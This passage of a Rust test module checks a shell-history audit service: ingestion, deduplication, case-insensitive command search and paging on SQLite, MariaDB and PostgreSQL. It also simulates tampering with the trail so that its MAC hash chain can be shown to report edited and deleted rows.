            { "stream": "x", "seq": 1, "history_id": 1, "user": "root", "time": "2026-11-26 00:00:00", "command": "ünïcødé ✓ 'q' \"d\" \\ ;" },
            { "stream": "x", "seq": 2, "history_id": 2, "user": "root", "login_user": "l".repeat(60), "uid": 4294967294u32,
              "time": "2026-11-26 00:00:01", "command": "long login" },
        ] }))
        .unwrap();
        let ack = audit.ingest_agent(Some(c), mixed).await.unwrap();
        assert_eq!((ack.stored, ack.duplicates), (1, 0), "{ack:?}");
        assert_eq!(ack.rejected.len(), 1, "{ack:?}");
        assert_eq!((ack.rejected[0].stream.as_str(), ack.rejected[0].seq), ("x", 2));
        assert!(ack.rejected[0].reason.starts_with("login_user: "), "{ack:?}");
        let replay: AgentBatch = serde_json::from_value(json!({ "events": [
            { "stream": "stream-0", "seq": 250, "history_id": 1, "user": "root", "time": "2026-11-20 04:10:00", "command": "cmd 0 250" },
        ] })).unwrap();
        let ack = audit.ingest_agent(Some(a), replay).await.unwrap();
        assert_eq!((ack.stored, ack.duplicates), (0, 1));

        // Everything, newest first.
        let all = audit.search(&query(1000)).await.unwrap().rows;
        assert_eq!(all.len(), 1000);
        assert!(all.windows(2).all(|w| w[0].id > w[1].id), "newest first");
        let rows = store.query_audit(&query(2000)).await.unwrap();
        assert_eq!(rows.len(), 1001);
        let mut distinct: Vec<_> = rows.iter().map(|r| r.id).collect();
        distinct.dedup();
        assert_eq!(distinct.len(), 1001);
        let everything = expected(|_, _| true);
        same("every row", &keys(&rows).into_iter().filter(|k| k.0 != "x").collect::<Vec<_>>(), &everything);
        let unicode = rows.iter().find(|r| r.stream.as_deref() == Some("x")).unwrap();
        assert_eq!((unicode.host_id, unicode.history_ip.as_str()), (c, "2001:db8::7"));
        assert_eq!(unicode.history_command, "ünïcødé ✓ 'q' \"d\" \\ ;");
        for row in &rows {
            let want_host = if row.stream.as_deref() == Some("x") {
                c
            } else {
                host_of(row.stream.as_deref().unwrap()[7..].parse().unwrap())
            };
            assert_eq!(row.host_id, want_host);
            assert_ne!(row.history_ip, "203.0.113.9", "the claimed address is never trusted");
        }
        // Each host's chain is 1..=n with no holes.
        for (h, n) in [(a, 500), (b, 500), (c, 1)] {
            let mut seqs: Vec<i64> = rows.iter().filter(|r| r.host_id == h).map(|r| r.chain_seq).collect();
            seqs.sort();
            assert_eq!(seqs, (1..=n).collect::<Vec<_>>());
        }

        // Filters.
        let q = |f: AuditQuery| {
            let store = store.clone();
            async move { keys(&store.query_audit(&AuditQuery { limit: 2000, ..f }).await.unwrap()) }
        };
        same("host alpha", &q(AuditQuery { host_ids: Some(vec![a]), ..query(0) }).await, &expected(|b, _| b < 2));
        assert_eq!(q(AuditQuery { host_ids: Some(vec![b, c]), ..query(0) }).await.len(), 501);
        let user = |names: &[&str]| AuditQuery { users: names.iter().map(|n| n.to_string()).collect(), ..query(0) };
        same("user alice", &q(user(&["alice"])).await, &expected(|_, e| e.user == "alice"));
        same("login user carol", &q(user(&["carol"])).await, &expected(|_, e| e.login.is_some()));
        same("user ALICE (case counts)", &q(user(&["ALICE", "Carol", "carol("])).await, &[]);
        same(
            "alice or carol on beta",
            &q(AuditQuery { host_ids: Some(vec![b]), ..user(&["alice", "carol"]) }).await,
            &expected(|b, e| b >= 2 && (e.user == "alice" || e.login.is_some())),
        );
        // Command search: the same answer as a plain scan of every row by the rule (a substring, case
        // ignored), whether an index answers the term or a window is read; with other filters and paging too.
        // The index is kept off the writer's path (a thread on SQLite, on PostgreSQL a task that `serve` runs on
        // one server of the database, started here): wait until it has every row, so that it answers.
        let keeping = tokio_util::sync::CancellationToken::new();
        tokio::spawn({
            let (store, stop) = (store.clone(), keeping.clone());
            async move { store.keep_audit_index(stop).await }
        });
        if dialect != Dialect::MySql {
            let deadline = std::time::Instant::now() + Duration::from_secs(10);
            while store.audit_text_lag().await.unwrap() != Some(0) {
                assert!(std::time::Instant::now() < deadline, "the command index did not catch up in 10 s");
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
        let scan = |text: &str, keep: &dyn Fn(&AuditRow) -> bool| {
            let needle = text.to_lowercase();
            let mut k: Vec<_> = rows
                .iter()
                .filter(|r| r.history_command.to_lowercase().contains(&needle) && keep(r))
                .map(key_of)
                .collect();
            k.sort();
            k
        };
        let terms = [
            "cmd",
            "GREP",
            "log3_17",
            "absent-term",
            "100%",
            "a_b",
            "_",
            "%",
            "!",
            "x2",
            "ünïcødé",
            "ÜNÏCØDÉ",
            "Ü",
            "✓",
            "\\",
            "'q'",
            "\"d\"",
            " 1",
            "LOG1X",
        ];
        for text in terms {
            let found = store.search_audit(&AuditQuery { text: Some(text.into()), ..query(2000) }).await.unwrap();
            same(&format!("text {text:?}"), &keys(&found.rows), &scan(text, &|_| true));
            // Which terms read a window: on SQLite those under three characters; on PostgreSQL those without
            // three ASCII letters or digits in a row once each run of other ASCII characters is one `q` (`a_b` is
            // `aqb`); on MariaDB all.
            let windowed = match dialect {
                Dialect::Sqlite => text.chars().count() < 3,
                Dialect::Postgres => {
                    let mut mapped: Vec<char> = Vec::new();
                    for c in text.chars() {
                        let other = c.is_ascii() && !c.is_ascii_alphanumeric();
                        if !other {
                            mapped.push(c);
                        } else if mapped.last() != Some(&'\u{0}') {
                            mapped.push('\u{0}');
                        }
                    }
                    let mapped: Vec<char> = mapped.into_iter().map(|c| if c == '\u{0}' { 'q' } else { c }).collect();
                    !mapped.windows(3).any(|w| w.iter().all(char::is_ascii_alphanumeric))
                }
                Dialect::MySql => true,
            };
            assert_eq!(found.scanned.is_some(), windowed, "{text:?} on {dialect:?}: {:?}", found.scanned);
            if let Some(w) = found.scanned {
                assert!(w.complete && w.first_id <= 1, "{text:?}: {w:?}");
            }
            let combined = AuditQuery { text: Some(text.into()), host_ids: Some(vec![a]), ..user(&["alice"]) };
            same(
                &format!("text {text:?}, alice on alpha"),
                &q(combined).await,
                &scan(text, &|r| r.host_id == a && r.history_user == "alice"),
            );
        }
        // A host with one row: its rows are read rather than every row the term matches.
        let on_gamma = AuditQuery { text: Some("ÜNÏ".into()), host_ids: Some(vec![c]), ..query(10) };
        assert_eq!(
            store.query_audit(&on_gamma).await.unwrap().iter().map(key_of).collect::<Vec<_>>(),
            [("x".into(), 1)]
        );
        let on_gamma = AuditQuery { text: Some("cmd".into()), ..on_gamma };
        assert_eq!(store.query_audit(&on_gamma).await.unwrap().len(), 0);
        for text in ["cmd", "a_b", "GREP 1", "_", "X"] {
            // Pages of 7 following `next`, back from the newest and forward from the oldest, with windows of 97
            // rows for the terms no index answers: the same rows as one read, each window said.
            for forward in [false, true] {
                let mut paged = Vec::new();
                let mut cursor = forward.then_some(0);
                let mut windows = 0;
                loop {
                    let (after, before) = if forward { (cursor, None) } else { (None, cursor) };
                    let page = AuditQuery { text: Some(text.into()), after, before, scan_rows: Some(97), ..query(7) };
                    let found = store.search_audit(&page).await.unwrap();
                    assert!(found.rows.len() <= 7);
                    paged.extend(found.rows.iter().map(key_of));
                    windows += usize::from(found.scanned.is_some());
                    match found.next {
                        Some(next) => cursor = Some(next),
                        None => break,
                    }
                }
                paged.sort();
                same(&format!("text {text:?} in pages (forward: {forward})"), &paged, &scan(text, &|_| true));
                if text.chars().count() < 3 || dialect == Dialect::MySql {
                    assert!(windows >= 1001 / 97, "{text:?}: {windows} windows");
                }
            }
        }
        let received =
            |from: Option<i64>, to: Option<i64>| AuditQuery { received_from: from, received_to: to, ..query(0) };
        let (first, last) =
            (rows.iter().map(|r| r.received_at).min().unwrap(), rows.iter().map(|r| r.received_at).max().unwrap());
        assert_eq!(q(received(Some(first), Some(last))).await.len(), 1001);
        assert_eq!(q(received(Some(last + 1), None)).await.len(), 0);
        let middle = rows[500].received_at;
        assert_eq!(
            q(received(None, Some(middle))).await.len(),
            rows.iter().filter(|r| r.received_at <= middle).count()
        );
        let day =
            |from: &str, to: &str| AuditQuery { host_from: Some(from.into()), host_to: Some(to.into()), ..query(0) };
        same("days 21-22", &q(day("2026-11-21", "2026-11-22")).await, &expected(|b, _| b == 1 || b == 2));
        same(
            "21st 01:00-02:30",
            &q(day("2026-11-21 01", "2026-11-21 02:30")).await,
            &expected(|b, e| b == 1 && (60..=150).contains(&e.seq)),
        );
        same(
            "to the 20th",
            &q(AuditQuery { host_to: Some("2026-11-20".into()), ..query(0) }).await,
            &expected(|b, _| b == 0),
        );

        // Pages both ways cover every row once, in order.
        let mut forward = Vec::new();
        let mut after = 0;
        loop {
            let page = store.query_audit(&AuditQuery { after: Some(after), ..query(300) }).await.unwrap();
            forward.extend(page.iter().map(|r| r.id));
            match page.last() {
                Some(last) if page.len() == 300 => after = last.id,
                _ => break,
            }
        }
        let mut ascending: Vec<i64> = rows.iter().map(|r| r.id).collect();
        ascending.sort();
        assert_eq!(forward, ascending);
        let page = store.query_audit(&AuditQuery { before: Some(ascending[10]), ..query(5) }).await.unwrap();
        assert_eq!(
            page.iter().map(|r| r.id).collect::<Vec<_>>(),
            ascending[5..10].iter().rev().copied().collect::<Vec<_>>()
        );

        // The trail verifies.
        let report = audit.verify().await.unwrap();
        assert_eq!((report.hosts, report.rows, report.findings.clone()), (3, 1001, Vec::new()), "{dialect:?}");

        // Tampering, through a connection of its own: an edit and a deletion on alpha, the newest row of beta.
        let of = |h: i64, seq: i64| rows.iter().find(|r| r.host_id == h && r.chain_seq == seq).unwrap().id;
        let (edited, deleted, newest) = (of(a, 100), of(a, 200), of(b, 500));
        assert_eq!(
            raw(dialect, url, &format!("UPDATE server_history SET history_command = 'tampered' WHERE id = {edited}"))
                .await,
            1
        );
        assert_eq!(raw(dialect, url, &format!("DELETE FROM server_history WHERE id = {deleted}")).await, 1);
        assert_eq!(raw(dialect, url, &format!("DELETE FROM server_history WHERE id = {newest}")).await, 1);
        // The index follows an edit and a deletion (SQLite's through triggers).
        let found = |text: &str| {
            let store = store.clone();
            let text = text.to_owned();
            async move {
                let rows = store.query_audit(&AuditQuery { text: Some(text), ..query(2000) }).await.unwrap();
                rows.iter().map(|r| r.id).collect::<Vec<_>>()
            }
        };
        assert_eq!(found("TAMPERED").await, [edited]);
        let command_of = |id: i64| rows.iter().find(|r| r.id == id).unwrap().history_command.clone();
        assert!(!found(&command_of(edited)).await.contains(&edited), "the edited row's old command");
        assert!(!found(&command_of(deleted)).await.contains(&deleted), "a deleted row");
        let report = audit.verify().await.unwrap();
        let finding = |host_id: i64, chain_seq: i64, problem: String| Finding { host_id, chain_seq, problem };
        let chains: Vec<(&str, u64, usize)> =
            report.chains.iter().map(|chain| (chain.host.as_str(), chain.rows, chain.problems)).collect();
        // By host id, in the order the hosts were added; alpha and beta each lost one row.
        assert!(a < b && b < c);
        assert_eq!(chains, [("alpha", 499, 2), ("beta", 499, 1), ("gamma", 1, 0)], "{dialect:?}");
        assert_eq!(
            (report.hosts, report.rows, report.findings),
            (
                3,
                999,
                vec![
                    finding(a, 100, format!("row id {edited} was edited or forged: its contents do not match its MAC")),
                    finding(a, 201, "1 row(s) missing before this one (deleted): chain positions 200..200".into()),
                    finding(b, 500, "the newest 1 row(s) were deleted: the chain head is at 500".into()),
                ]
            ),
            "{dialect:?}"
        );
        keeping.cancel();
        store.close().await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn the_audit_service_behaves_alike_on_sqlite_mariadb_and_postgresql() {
        on_each_dialect(|dialect, url| async move { check(dialect, &url).await }).await;
    }

    /// Applies only the migrations before `version`, as an older server did.
    async fn migrate_before(dialect: Dialect, url: &str, version: i64) {
        let folder = match dialect {
            Dialect::Sqlite => "sqlite",
            Dialect::MySql => "mysql",
            Dialect::Postgres => "postgres",
        };
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../migrations").join(folder);
        let mut migrator = sqlx::migrate::Migrator::new(dir).await.unwrap();
        migrator.migrations = migrator.migrations.iter().filter(|m| m.version < version).cloned().collect();
        match dialect {
            Dialect::Sqlite => {
                use std::str::FromStr;
                let options = sqlx::sqlite::SqliteConnectOptions::from_str(url).unwrap().create_if_missing(true);
                let mut c = sqlx::SqliteConnection::connect_with(&options).await.unwrap();
                migrator.run(&mut c).await.unwrap();
            }
            Dialect::MySql => migrator.run(&mut sqlx::MySqlConnection::connect(url).await.unwrap()).await.unwrap(),
            Dialect::Postgres => migrator.run(&mut sqlx::PgConnection::connect(url).await.unwrap()).await.unwrap(),
        }
    }

    #[tokio::test]
    async fn rows_sealed_before_migration_3_still_verify_after_it() {
        on_each_dialect(|dialect, url| async move {
            // Migration 3 dropped the stored dedup_key and prev_hash; the MAC still covers both, derived.
            migrate_before(dialect, &url, 3).await;
            let key = b"test chain key".to_vec();
            raw(
                dialect,
                &url,
                "INSERT INTO server_list (server_name, server_lip, created_at) VALUES ('old', '10.9.0.1', 0)",
            )
            .await;
            let chain_key = omserver::audit::chain::ChainKey::new(&key);
            let mut prev = omserver::audit::chain::GENESIS.to_owned();
            for n in 1..=2_i64 {
                let row = AuditRow {
                    id: 0,
                    host_id: 1,
                    history_ip: "10.9.0.1".into(),
                    history_id: n,
                    history_user: "root".into(),
                    login_user: None,
                    tty: Some("pts/0".into()),
                    history_datetime: format!("2026-11-2{n} 10:00:00"),
                    received_at: 1_700_000_000_000 + n,
                    history_command: format!("echo 'it''s {n}'"),
                    source: "legacy".into(),
                    stream: None,
                    seq: None,
                    chain_seq: n,
                    row_hash: String::new(),
                    session: None,
                    argv: None,
                    cwd: None,
                    exe: None,
                    exit_code: None,
                    pid: None,
                    ppid: None,
                    euid: None,
                    auid: None,
                };
                let dedup = omserver::audit::chain::dedup_key(&row);
                let hash = omserver::audit::chain::seal(&chain_key, &row, &prev, &dedup);
                raw(
                    dialect,
                    &url,
                    &format!(
                        "INSERT INTO server_history (host_id, history_ip, history_id, history_user, tty, \
                         history_datetime, received_at, history_command, source, dedup_key, chain_seq, prev_hash, \
                         row_hash) VALUES (1, '10.9.0.1', {n}, 'root', 'pts/0', '{}', {}, '{}', 'legacy', '{dedup}', \
                         {n}, '{prev}', '{hash}')",
                        row.history_datetime,
                        row.received_at,
                        row.history_command.replace('\'', "''"),
                    ),
                )
                .await;
                prev = hash;
            }
            raw(
                dialect,
                &url,
                &format!("INSERT INTO audit_chain (host_id, last_seq, last_hash) VALUES (1, 2, '{prev}')"),
            )
            .await;

            let store = Store::connect(&url).await.unwrap();
            let report = omserver::audit::chain::verify(&store, &key).await.unwrap();
            assert_eq!((report.hosts, report.rows, report.findings), (1, 2, vec![]), "{dialect:?}");
            // The writer continues the old chain.
            let audit =
                AuditService::start(store.clone(), store.audit_sink().unwrap(), AuditConfig::default(), key.clone())
                    .unwrap();
            let batch: AgentBatch = serde_json::from_value(json!({ "events": [{
                "stream": "s", "seq": 1, "history_id": 3, "user": "root", "time": "2026-11-24 10:00:00",
                "command": "uptime"
            }]}))
            .unwrap();
            assert_eq!(audit.ingest_agent(Some(1), batch).await.unwrap().stored, 1);
            let report = omserver::audit::chain::verify(&store, &key).await.unwrap();
            assert_eq!((report.hosts, report.rows, report.findings), (1, 3, vec![]), "{dialect:?}");
            store.close().await;
        })
        .await;
    }

    #[tokio::test]
    async fn a_large_group_gets_each_row_its_own_id_in_order() {
        on_each_dialect(|dialect, url| async move {
            let store = Store::connect(&url).await.unwrap();
            let host = plain_host("big", "10.7.0.1");
            let host_id = store.add_host(&host).await.unwrap().id;
            // 293 rows: the SQLite sink's multi-row statements of 256, 32 and 4 rows and single rows, all used.
            let rows: Vec<AuditRow> = (1..=293)
                .map(|n| AuditRow {
                    id: 0,
                    host_id,
                    history_ip: "10.7.0.1".into(),
                    history_id: n,
                    history_user: "root".into(),
                    login_user: None,
                    tty: None,
                    history_datetime: "2026-11-24 10:00:00".into(),
                    received_at: n,
                    history_command: format!("echo {n}"),
                    source: "agent".into(),
                    stream: Some("s".into()),
                    seq: Some(n),
                    chain_seq: n,
                    row_hash: format!("{n:064}"),
                    session: None,
                    argv: None,
                    cwd: None,
                    exe: None,
                    exit_code: None,
                    pid: None,
                    ppid: None,
                    euid: None,
                    auid: None,
                })
                .collect();
            let mut sink = store.audit_sink().unwrap();
            let written = rows.clone();
            let (ids, mut sink) = tokio::task::spawn_blocking(move || {
                let ids = sink.write_audit_batch(&written, &[], &[(host_id, 293, format!("{:064}", 293))]);
                (ids, sink)
            })
            .await
            .unwrap();
            let ids = ids.unwrap();
            assert_eq!(ids.len(), rows.len(), "{dialect:?}");
            assert!(ids.windows(2).all(|w| w[0] < w[1]), "{dialect:?}: ids in insertion order");
            let stored = store.query_audit(&AuditQuery { after: Some(0), limit: 1000, ..AuditQuery::default() }).await;
            let stored = stored.unwrap();
            let by_id: Vec<(i64, i64)> = stored.iter().map(|r| (r.id, r.history_id)).collect();
            let want: Vec<(i64, i64)> = ids.iter().copied().zip(1..=293).collect();
            assert_eq!(by_id, want, "{dialect:?}: each id names its own row");
            let head = tokio::task::spawn_blocking(move || sink.audit_head(host_id)).await.unwrap().unwrap();
            assert_eq!(head, Some((293, format!("{:064}", 293))), "{dialect:?}");
            store.close().await;
        })
        .await;
    }

    /// An in-memory SQLite database cannot be opened a second time, so its audit writer goes through the pool.
    #[tokio::test]
    async fn an_in_memory_database_is_audited_through_the_pool() {
        let store = Store::connect("sqlite::memory:").await.unwrap();
        let host = plain_host("mem", "10.8.0.1");
        let host_id = store.add_host(&host).await.unwrap().id;
        let audit =
            AuditService::start(store.clone(), store.audit_sink().unwrap(), AuditConfig::default(), b"k".to_vec())
                .unwrap();
        let batch = |seq: i64| -> AgentBatch {
            serde_json::from_value(json!({ "events": [{
                "stream": "m", "seq": seq, "history_id": seq, "user": "root", "time": "2026-11-24 10:00:00",
                "command": format!("echo {seq}")
            }]}))
            .unwrap()
        };
        assert_eq!(audit.ingest_agent(Some(host_id), batch(1)).await.unwrap().stored, 1);
        let again = audit.ingest_agent(Some(host_id), batch(1)).await.unwrap();
        assert_eq!((again.stored, again.duplicates), (0, 1));
        let rows = store.query_audit(&AuditQuery { limit: 10, ..AuditQuery::default() }).await.unwrap();
        assert_eq!(rows.iter().map(|r| r.history_command.as_str()).collect::<Vec<_>>(), ["echo 1"]);
        // No thread indexes an in-memory database: a search reads every row above the index's position.
        assert_eq!(store.audit_text_lag().await.unwrap(), Some(1));
        let search = |text: &str| AuditQuery { text: Some(text.into()), limit: 10, ..AuditQuery::default() };
        assert_eq!(store.query_audit(&search("ECHO 1")).await.unwrap().len(), 1);
        assert_eq!(store.query_audit(&search("echo 2")).await.unwrap().len(), 0);
        let report = audit.verify().await.unwrap();
        assert_eq!((report.rows, report.findings), (1, vec![]));
    }
}
